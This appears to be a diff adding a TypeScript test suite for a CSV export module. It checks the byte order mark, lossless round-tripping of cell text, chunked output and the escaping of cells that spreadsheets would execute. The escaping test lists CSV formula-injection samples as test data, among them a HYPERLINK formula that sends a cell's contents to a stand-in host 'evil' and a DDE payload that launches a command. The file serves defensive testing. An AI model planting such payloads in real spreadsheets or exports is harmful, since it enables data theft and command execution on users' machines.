@@ -1,0 +1,107 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import type { CellValue, Column } from './column.ts';
+import { csvText } from './csv-text.ts';
+import type { ResultRow } from './result-row.ts';
+
+/** Rows of values as a file of these columns. */
+const written = async (rows: CellValue[][], headings = rows[0]!.map((_, at) => `C${at}`)) => {
+  const columns = headings.map(
+    (heading, at): Column => ({
+      heading,
+      kind: 'text',
+      read: (row) => (row as unknown as CellValue[])[at]!,
+    }),
+  );
+  return Array.fromAsync(csvText(columns, batchesOf(rows)));
+};
+
+async function* batchesOf(rows: CellValue[][]) {
+  yield rows as unknown as ResultRow[];
+}
+
+/** As readers do who take any end of a line for the end of a row. */
+const cellsOf = (text: string): string[][] =>
+  parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });
+
+/** What the page on results tells a reader to do with a text. */
+const withoutApostrophe = (text: string) => text.replace(/^'(?='*(?:[\t\r\n]|\s*[=+\-@＝＋－＠]))/, '');
+
+test('a file begins with a byte order mark, by which spreadsheets know UTF-8', async () => {
+  const [first] = await written([['x']]);
+  assert.equal(first, '\uFEFFC0\r\n');
+});
+
+test('what a spreadsheet would run has an apostrophe before it; numbers have none', async () => {
+  const harmful = [
+    '=1+1',
+    '+31 6 1234',
+    '-crack',
+    '@SUM(A1)',
+    '\tx',
+    '\rx',
+    '\nx',
+    ' =1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    "'=1+1",
+    '=HYPERLINK("http://evil/?"&A1)',
+    "=cmd|'/C calc'!A0",
+  ];
+  const harmless = ["'s-Gravenhage", 'a=b', '1-2', "''", '', '0012'];
+  const pieces = await written([harmful, [...harmless, ...harmful].slice(0, harmful.length)], harmful);
+  const [headings, first, second] = cellsOf(pieces.join(''));
+  assert.deepEqual(
+    first,
+    harmful.map((text) => `'${text}`),
+  );
+  assert.deepEqual(headings, first);
+  assert.deepEqual(second!.slice(0, harmless.length), harmless);
+  const numbers = [-1, -0.5, 1e21, -1e-7, 0, 9_007_199_254_740_991];
+  const [, values] = cellsOf((await written([[...numbers, true, false, null]])).join(''));
+  assert.deepEqual(values, ['-1', '-0.5', '1e+21', '-1e-7', '0', '9007199254740991', 'true', 'false', '']);
+});
+
+const piece = fc.constantFrom(
+  "'",
+  '"',
+  ',',
+  ';',
+  '=',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  ' ',
+  '\uFEFF',
+  'x',
+  '🙂',
+);
+const text = fc.oneof(
+  fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join('')),
+  fc.string({ unit: 'binary' }),
+);
+
+test('every text comes back as it was, whatever is in it', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
+      const [, ...cells] = cellsOf((await written(rows)).join(''));
+      assert.deepEqual(
+        cells.map((row) => row.map(withoutApostrophe)),
+        rows,
+      );
+    }),
+    { numRuns: 300 },
+  );
+});
+
+test('a table of very many columns comes in small pieces too', async () => {
+  const row = Array.from({ length: 16_384 }, () => 'some words');
+  const pieces = await written(Array.from({ length: 10 }, () => row));
+  assert.ok(Math.max(...pieces.map(({ length }) => length)) < 400_000);
+  assert.equal(cellsOf(pieces.join('')).length, 11);
+});
